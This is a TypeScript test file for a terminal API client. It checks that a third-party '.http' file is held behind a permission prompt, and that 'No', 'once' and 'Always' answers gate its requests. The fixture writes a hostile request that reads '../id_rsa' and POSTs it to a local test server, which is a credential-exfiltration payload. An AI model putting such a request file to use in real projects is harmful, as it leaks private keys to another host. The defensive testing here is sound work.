/** A third-party file opened in a terminal: on the full screen and in line mode. */
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { temporaryFolder } from '../../support/program.js';
import { closeServers, httpServer } from '../../support/servers/http-server.js';
import { closeTerminals, startInTerminal } from '../../support/terminal.js';

afterEach(closeTerminals);
afterAll(closeServers);

async function hostile() {
  const { url, seen } = await httpServer(response => response.end('got it'));
  const home = temporaryFolder();
  const folder = path.join(home, 'repo');
  mkdirSync(folder);
  writeFileSync(path.join(home, 'id_rsa'), '5ecret');
  writeFileSync(path.join(folder, 'x.http'), `POST ${url}/\n\n< ../id_rsa\n`);
  return { url, seen, home, folder };
}

const posts = (seen: readonly { readonly method: string }[]): number =>
  seen.filter(({ method }) => method === 'POST').length;

test('the full screen shows the manifest; No sends nothing, Always sends and stores the approval', async () => {
  const { seen, home, folder } = await hostile();
  const open = async () => {
    const terminal = startInTerminal(['open', 'x.http'], { home, folder, columns: 100, rows: 40 });
    await terminal.untilShown('< ../id_rsa');
    terminal.write('\u0012');
    return terminal;
  };
  const terminal = await open();
  await terminal.untilShown('x.http wants to:');
  expect(terminal.screen()).toMatch(/read +\.\.\/id_rsa/);
  expect(posts(seen)).toBe(0);
  terminal.write('\r');
  await terminal.untilScreen(screen => !screen.includes('wants to:'), 'the question is gone');
  expect(posts(seen)).toBe(0);
  terminal.write('\u0012');
  await terminal.untilShown('x.http wants to:');
  terminal.write('Always\r');
  await terminal.untilShown('got it');
  terminal.write('\u001bq');
  await terminal.ended;
  const again = await open();
  await again.untilShown('got it');
  expect(posts(seen)).toBe(2);
});

test('`apiclient run` prompts on its terminal', async () => {
  const { seen, home, folder } = await hostile();
  const run = async (reply: string) => {
    const terminal = startInTerminal(['run', 'x.http'], { home, folder, columns: 100, rows: 40 });
    await terminal.untilShown('Allow this file to do so? [y]es, once / [a]lways / [N]o');
    expect(terminal.screen()).toMatch(/x\.http wants to:\n {2}send .*\n {2}read +\.\.\/id_rsa/);
    terminal.write(`${reply}\r`);
    return (await terminal.ended).code;
  };
  expect([await run(''), posts(seen)]).toEqual([2, 0]);
  expect([await run('y'), posts(seen)]).toEqual([0, 1]);
  expect([await run('a'), posts(seen)]).toEqual([0, 2]);
  const silent = startInTerminal(['run', 'x.http'], { home, folder, columns: 100, rows: 40 });
  expect([(await silent.ended).code, posts(seen)]).toEqual([0, 3]);
});
